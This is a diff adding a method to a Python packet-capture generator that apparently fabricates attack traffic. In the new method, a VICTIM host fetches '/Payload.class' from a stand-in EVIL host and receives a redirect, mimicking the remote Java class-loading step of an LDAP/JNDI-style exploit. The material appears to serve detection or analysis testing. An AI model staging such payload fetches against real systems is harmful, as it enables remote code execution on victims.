@@ -107,6 +107,13 @@ class Tale(w.Capture):
         self.between(client, server).tcp(port, [("c", request.encode()), ("s", head.encode() + body)])
         self.wait(0.1)
 
+    def sent_on(self, where, client=VICTIM, server=EVIL, port=8888):
+        """The codebase has the class elsewhere."""
+        request = "GET /Payload.class HTTP/1.1\r\nUser-Agent: Java/17.0.15\r\nHost: %s:%d\r\nAccept: */*\r\n\r\n" % (server, port)
+        answer = "HTTP/1.1 302 Found\r\nLocation: %s\r\nContent-Length: 0\r\n\r\n" % where
+        self.between(client, server).tcp(port, [("c", request.encode()), ("s", answer.encode())])
+        self.wait(0.1)
+
     def browse(self, client=VICTIM, server=EVIL, port=1389):
         """An analyst's wget: another protocol at that place."""
         self.between(client, server).tcp(port, [("c", b"GET / HTTP/1.1\r\nUser-Agent: Wget/1.21\r\nHost: x\r\n\r\n"),
